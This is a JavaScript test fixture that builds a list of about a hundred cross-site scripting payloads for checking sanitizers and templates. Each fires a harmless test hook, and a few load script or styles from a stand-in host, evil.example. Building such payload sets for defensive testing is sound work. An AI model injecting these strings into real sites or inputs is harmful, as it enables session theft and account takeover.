/*
 * A hundred texts that would run a script where a text is taken for markup, an attribute, an address, a template or a style: the
 * shapes that sanitizers and templates have let through over the years.  Each calls __hit, which a test defines.  At most 100
 * characters, no control characters, no two alike.
 */
const X = '__hit(1)';
const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin'];

const markup = [
  `<script>${X}</script>`, `<SCRIPT>${X}</SCRIPT>`, `<scr<script>ipt>${X}</scr</script>ipt>`, `<script src=data:,${X}></script>`, `<script src=//evil.example/x.js></script>`,
  `<script type=module>${X}</script>`, `<script>${X}//`, `</script><script>${X}</script>`, `<script/x>${X}</script>`, `<script\u2028>${X}</script>`.replace('\u2028', ' '),
  `<img src=x onerror=${X}>`, `<img src=x onerror="${X}">`, `<img src=x onerror='${X}'>`, `<img/src=x/onerror=${X}>`, `<IMG SRC=x ONERROR=${X}>`, `<img src=x onerror=${X}//`, `<<img src=x onerror=${X}>>`,
  `<img src="x\`><img src=x onerror=${X}>"`, `<image src=x onerror=${X}>`, `<img src=x:x onerror=${X}>`, `<img srcset=x onerror=${X}>`, `<img src=x onerror=&#95;&#95;hit(1)>`,
  `<svg onload=${X}>`, `<svg/onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><set onbegin=${X} attributename=x>`, `<svg><a xlink:href="javascript:${X}"><text y=9>x`,
  `<svg><foreignObject><img src=x onerror=${X}>`, `<math><mtext><img src=x onerror=${X}>`, `<math><mi//xlink:href="data:x,<script>${X}</script>">`, `<svg><style><img src=x onerror=${X}></style>`,
  `<iframe src="javascript:${X}">`, `<iframe srcdoc="<script>parent.${X}</script>">`, `<iframe onload=${X}>`, `<object data="javascript:${X}">`, `<embed src="javascript:${X}">`, `<object data=x onerror=${X}>`,
  `<body onload=${X}>`, `<html onmouseover=${X}>`, `<base href="javascript:${X}//">`, `<meta http-equiv=refresh content="0;javascript:${X}">`, `<link rel=stylesheet href="javascript:${X}">`, `<link rel=import href=//evil.example/x>`,
  `<a href="javascript:${X}">click</a>`, `<a href=" javascript:${X}">click</a>`, `<a href="java&#9;script:${X}">click</a>`, `<a href="data:text/html,<script>${X}</script>">click</a>`, `<a href="vbscript:${X}">click</a>`,
  `<form action="javascript:${X}"><input type=submit>`, `<form><button formaction="javascript:${X}">x`, `<input autofocus onfocus=${X}>`, `<select autofocus onfocus=${X}>`, `<textarea autofocus onfocus=${X}>`, `<button popovertarget=x onclick=${X}>x`,
  `<details open ontoggle=${X}>`, `<video><source onerror=${X}></video>`, `<video src=x onerror=${X}>`, `<audio src=x onerror=${X}>`, `<marquee onstart=${X}>x</marquee>`, `<isindex type=image src=1 onerror=${X}>`,
  `<div style="background:url(javascript:${X})">`, `<div style="width:expression(${X})">`, `<style>@import "javascript:${X}";</style>`, `<style>*{background:url(//evil.example/c)}</style>`, `<style onload=${X}></style>`,
  `<template><img src=x onerror=${X}></template>`, `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<title><img src=x onerror=${X}></title>`, `</title><img src=x onerror=${X}>`, `</textarea><img src=x onerror=${X}>`,
  `--><img src=x onerror=${X}>`, `<!--><img src=x onerror=${X}>-->`, `<![CDATA[<img src=x onerror=${X}>]]>`, `<xmp><img src=x onerror=${X}></xmp>`, `<plaintext><img src=x onerror=${X}>`, `<portal src=javascript:${X}>`,
];
const others = [
  `"><img src=x onerror=${X}>`, `'><img src=x onerror=${X}>`, `" onmouseover=${X} x="`, `' autofocus onfocus=${X} x='`, `" style="animation:x" onanimationstart=${X}`, `javascript:${X}`, `JaVaScRiPt:${X}`, `javascript://%0a${X}`,
  `data:text/html,<script>${X}</script>`, `{{constructor.constructor('${X}')()}}`, `\${${X}}`, `<%= ${X} %>`, `#{${X}}`, `{{7*7}}{{${X}}}`, `');${X};('`, `";${X};"`, `\\"-${X}//`, `&lt;img src=x onerror=${X}&gt;`,
  `\u003cimg src=x onerror=${X}\u003e`, `%3Cimg%20src=x%20onerror=${X}%3E`, `＜img src=x onerror=${X}＞`, `<img src=x onerror=${X}> ${'\u202e'}gpj.x`,
];

export const payloads = [...new Set([...markup, ...others, ...EVENTS.map((event) => `<p tabindex=1 ${event}=${X} autofocus>x`)])].filter((text) => [...text].length <= 100).slice(0, 100);
